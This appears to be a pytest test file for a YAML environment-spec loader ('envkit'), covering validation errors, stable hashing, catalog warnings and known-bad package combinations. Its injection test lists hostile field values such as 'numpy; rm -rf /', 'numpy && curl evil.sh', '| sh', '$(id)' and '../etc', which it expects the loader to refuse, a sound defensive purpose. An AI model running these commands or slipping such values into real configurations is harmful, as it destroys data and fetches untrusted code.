"""Spec loading: good specs pass, every bad case is refused with file, line, field and a hint."""

from __future__ import annotations

from pathlib import Path

import pytest

from envkit.errors import SpecError
from envkit.spec.load import find_specs, load_spec, spec_hash

REPO = Path(__file__).resolve().parents[3]

GOOD = """\
name: demo
python: "3.10"
cuda: "11.8"
frameworks:
  paddle: "2.6.2"
conda:
  - numpy>=1.24,<2
pip:
  - scipy>=1.10,<1.14
env:
  FLAGS_cudnn_deterministic: "1"
"""


def write(tmp_path: Path, text: str, name: str = "demo") -> Path:
    path = tmp_path / "environments" / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def problems(tmp_path: Path, text: str, name: str = "demo") -> list[tuple[int | None, str | None, str]]:
    with pytest.raises(SpecError) as info:
        load_spec(write(tmp_path, text, name))
    return [(p.line, p.field, p.message) for p in info.value.problems]


@pytest.mark.parametrize("path", find_specs(REPO), ids=lambda p: p.stem)
def test_shipped_specs_are_valid(path: Path) -> None:
    loaded = load_spec(path)
    assert loaded.spec.name == path.stem
    assert len(loaded.sha256) == 64


def test_good_spec_loads(tmp_path: Path) -> None:
    loaded = load_spec(write(tmp_path, GOOD))
    assert loaded.spec.frameworks.paddle == "2.6.2"
    assert loaded.spec.channels == ("conda-forge",)
    assert loaded.spec.platforms == ("linux-64",)


def test_hash_is_stable_under_order_comments_and_formatting(tmp_path: Path) -> None:
    reordered = (
        "# a comment\n"
        'env: {FLAGS_cudnn_deterministic: "1"}\n'
        'pip: ["scipy>=1.10,<1.14"]\n'
        'conda: ["numpy>=1.24,<2"]\n'
        'frameworks: {paddle: "2.6.2"}\n'
        'cuda: "11.8"\npython: "3.10"\nname: demo\n'
    )
    a = load_spec(write(tmp_path / "a", GOOD)).sha256
    b = load_spec(write(tmp_path / "b", reordered)).sha256
    assert a == b
    changed = load_spec(write(tmp_path / "c", GOOD.replace("1.14", "1.15"))).sha256
    assert changed != a


def test_hash_ignores_explicit_defaults(tmp_path: Path) -> None:
    explicit = GOOD + "installer: miniconda\nplatforms: [linux-64]\nchannels: [conda-forge]\n"
    assert load_spec(write(tmp_path / "a", GOOD)).sha256 == load_spec(write(tmp_path / "b", explicit)).sha256
    assert (
        spec_hash(load_spec(write(tmp_path / "c", GOOD)).spec)
        == load_spec(write(tmp_path / "d", GOOD)).sha256
    )


def test_yaml_syntax_error_has_line(tmp_path: Path) -> None:
    found = problems(tmp_path, 'name: demo\npython: "3.10\ncuda: "11.8"\n')
    assert found[0][0] is not None
    assert "YAML syntax error" in found[0][2]


def test_duplicate_key_is_refused(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD + 'python: "3.11"\n')
    assert (12, "python", "duplicate key 'python' (first at line 2)") in found


def test_all_problems_reported_at_once(tmp_path: Path) -> None:
    text = GOOD.replace('cuda: "11.8"', 'cuda: "11.9"').replace("frameworks:", "framework:")
    found = problems(tmp_path, text + "instaler: venv\n")
    fields = {f for _, f, _ in found}
    assert {"framework", "instaler"} <= fields
    assert len(found) >= 2


def test_unknown_key_hint_names_nearest(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as info:
        load_spec(write(tmp_path, GOOD + "instaler: venv\n"))
    problem = info.value.problems[0]
    assert problem.line == 12
    assert problem.hint is not None and "installer" in problem.hint


def test_unknown_cuda(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD.replace('cuda: "11.8"', 'cuda: "11.9"'))
    assert any(f == "cuda" and line == 3 and "not in the catalog" in m for line, f, m in found)


def test_unknown_framework_version(tmp_path: Path) -> None:
    """A release the catalog does not know is a warning; with strict it is an error at its line."""
    text = GOOD.replace('paddle: "2.6.2"', 'paddle: "2.6.9"')
    loaded = load_spec(write(tmp_path, text))
    assert any("paddle 2.6.9 is not in the catalog" in w for w in loaded.warnings)
    with pytest.raises(SpecError) as info:
        load_spec(write(tmp_path, text), strict=True)
    assert any(p.field == "frameworks.paddle" and p.line == 5 for p in info.value.problems)


def test_framework_without_wheels_for_cuda(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD.replace('cuda: "11.8"', 'cuda: "12.4"'))
    assert any("no published wheels for CUDA 12.4" in m for _, _, m in found)


def test_framework_without_wheels_for_python(tmp_path: Path) -> None:
    text = 'name: demo\npython: "3.12"\ncuda: "12.1"\nframeworks: {torch: "2.1.2"}\n'
    found = problems(tmp_path, text)
    assert any("no wheels for Python 3.12" in m for _, _, m in found)


def test_unknown_installer(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD + "installer: pixi\n")
    assert any(f == "installer" and line == 12 for line, f, _ in found)


def test_unquoted_version_gets_quote_hint(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as info:
        load_spec(write(tmp_path, GOOD.replace('python: "3.10"', "python: 3.10")))
    problem = info.value.problems[0]
    assert problem.field == "python"
    assert problem.hint == 'quote it: python: "3.1"' or (problem.hint and "quote" in problem.hint)


def test_name_must_match_file(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD, name="other")
    assert any(f == "name" and "differs from the file name" in m for _, f, m in found)


@pytest.mark.parametrize(
    ("snippet", "field"),
    [
        ('pip: ["numpy; rm -rf /"]', "pip.0"),
        ('pip: ["numpy && curl evil.sh"]', "pip.0"),
        ('pip: ["numpy\\nRUN curl x"]', "pip.0"),
        ('pip: ["numpy | sh"]', "pip.0"),
        ('conda: ["numpy; rm -rf /"]', "conda.0"),
        ('conda: ["numpy && rm"]', "conda.0"),
        ('conda: ["numpy$(id)"]', "conda.0"),
        ('env: {X: "a\\nRUN rm -rf /"}', "env"),
        ('env: {"A B": "1"}', "env"),
        ('base_image: "ubuntu:22.04; rm -rf /"', "base_image"),
        ('base_image: "Ubuntu:22.04"', "base_image"),
        ('base_image: "ubuntu:22.04\\nRUN id"', "base_image"),
        ('channels: ["conda-forge; id"]', "channels"),
        ('mirrors: {pypi: "https://x y"}', "mirrors.pypi"),
        ('name: "../etc"', "name"),
    ],
)
def test_injection_is_refused(tmp_path: Path, snippet: str, field: str) -> None:
    base = 'name: demo\npython: "3.11"\ncuda: cpu\n'
    key = snippet.split(":", 1)[0]
    text = "\n".join(line for line in base.splitlines() if not line.startswith(f"{key}:")) + "\n" + snippet
    found = problems(tmp_path, text + "\n")
    assert any(f is not None and f.startswith(field) for _, f, _ in found), found


def test_pip_markers_are_allowed(tmp_path: Path) -> None:
    text = 'name: demo\npython: "3.11"\ncuda: cpu\npip: ["tomli>=2; python_version < \'3.11\'"]\n'
    assert load_spec(write(tmp_path, text)).spec.pip


def test_mirror_with_credentials_is_refused(tmp_path: Path) -> None:
    text = (
        'name: demo\npython: "3.11"\ncuda: cpu\nmirrors: {pypi: "https://user:token@pypi.example/simple"}\n'
    )
    found = problems(tmp_path, text)
    assert any("credentials" in m for _, _, m in found)


def test_known_bad_combination_is_refused(tmp_path: Path) -> None:
    text = 'name: demo\npython: "3.11"\ncuda: "12.1"\nframeworks: {torch: "2.1.2"}\npip: ["numpy>=2"]\n'
    found = problems(tmp_path, text)
    assert any("torch-numpy2" in m for _, _, m in found)


def test_known_bad_combination_possible_is_a_warning(tmp_path: Path) -> None:
    text = 'name: demo\npython: "3.11"\ncuda: "12.1"\nframeworks: {torch: "2.1.2"}\n'
    loaded = load_spec(write(tmp_path, text))
    assert any("torch-numpy2" in w for w in loaded.warnings)


PADDLE3 = 'name: demo\npython: "3.11"\ncuda: "{cuda}"\nframeworks: {{paddle: "3.3.1"}}\n'


def test_paddle3_amp_numpy24_is_checked_for_the_gpu_build(tmp_path: Path) -> None:
    gpu = PADDLE3.format(cuda="12.6")
    assert any("paddle-gpu3-amp-numpy24" in w for w in load_spec(write(tmp_path, gpu)).warnings)
    forced = problems(tmp_path, gpu + 'pip: ["numpy==2.4.6"]\n')
    assert any("paddle-gpu3-amp-numpy24" in m for _, _, m in forced)
    bounded = load_spec(write(tmp_path, gpu + 'conda: ["numpy<2.4"]\n'))
    assert not any("paddle-gpu3-amp-numpy24" in w for w in bounded.warnings)
    cpu = load_spec(write(tmp_path, PADDLE3.format(cuda="cpu")))  # paddlepaddle: no GPU scaler
    assert not any("paddle-gpu3-amp-numpy24" in w for w in cpu.warnings)


def test_unknown_base_image_is_a_warning_with_closest_tags(tmp_path: Path) -> None:
    text = GOOD + 'base_image: "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu20.04"\n'
    loaded = load_spec(write(tmp_path, text))
    assert any("nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04" in w for w in loaded.warnings)


def test_base_image_by_digest_is_accepted(tmp_path: Path) -> None:
    digest = "a" * 64
    text = GOOD + f'base_image: "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04@sha256:{digest}"\n'
    loaded = load_spec(write(tmp_path, text))
    assert not loaded.warnings


def test_venv_without_base_image_is_refused(tmp_path: Path) -> None:
    found = problems(tmp_path, 'name: demo\npython: "3.11"\ncuda: cpu\ninstaller: venv\n')
    assert any(f == "installer" and "base_image" in m for _, f, m in found)


def test_not_a_mapping(tmp_path: Path) -> None:
    found = problems(tmp_path, "- a\n- b\n")
    assert found[0][0] == 1


def test_micromamba_uses_unverified_checksum_with_a_warning(tmp_path: Path) -> None:
    loaded = load_spec(write(tmp_path, GOOD + "installer: micromamba\n"))
    assert any("single secondary source" in w for w in loaded.warnings)


def test_platform_without_installer_is_refused(tmp_path: Path) -> None:
    found = problems(tmp_path, GOOD + "installer: micromamba\nplatforms: [linux-64, linux-aarch64]\n")
    assert any(f == "installer" and "linux-aarch64" in m for _, f, m in found)
